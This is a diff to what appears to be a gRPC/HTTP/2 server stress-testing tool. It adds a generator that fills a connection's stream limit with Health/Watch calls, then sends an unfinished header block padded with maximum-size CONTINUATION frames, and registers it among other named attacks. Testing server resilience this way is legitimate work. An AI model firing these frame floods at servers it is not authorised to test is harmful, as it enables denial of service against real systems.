@@ -387,6 +387,14 @@ def hang_ups() -> Iterator[bytes]:
     yield ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)) + frame(DATA, 0, 1, b"\0\0\0\x40\0" + bytes(1000))
 
 
+def calls_then_unfinished_headers() -> Iterator[bytes]:
+    """As many calls as a connection may have, and then abuse within a header block, where nothing can end them in turns."""
+    yield ACKNOWLEDGED
+    watch = call_headers("grpc.health.v1.Health/Watch")
+    yield b"".join(frame(HEADERS, END_HEADERS, stream, watch) + frame(DATA, END_STREAM, stream, grpc_message(b"")) for stream in range(1, 2001, 2))
+    yield frame(HEADERS, 0, 2001, b"\0\x01x\x7f\xff\xff\x7f" + bytes(8000)) + frame(CONTINUATION, 0, 2001, bytes(MAX_FRAME)) * 4
+
+
 def on_an_open_call(*frames: bytes) -> Callable[[], Iterator[bytes]]:
     return lambda: flood(*frames, start=ACKNOWLEDGED + frame(HEADERS, END_HEADERS, 1, call_headers(METHOD)))
 
@@ -424,7 +432,7 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
         empty_messages, indexed_headers, headers_of_many_fields, headers_in_many_frames, names_of_literals, no_method,
         trailers_again, expired_calls, timeouts_that_are_none, calls_without_a_message, malformed_binary_headers, table_sizes, padded_headers,
         interrupted_headers, watches, changing_windows, answers_byte_by_byte, questions_without_answers_read, windows_that_overflow,
-        data_after_the_end_of_each_call, another_content_type, hang_ups)} | FLOODS
+        data_after_the_end_of_each_call, another_content_type, hang_ups, calls_then_unfinished_headers)} | FLOODS
 
 
 def attack(name: str, port: int, seconds: float, tls: bool) -> int:
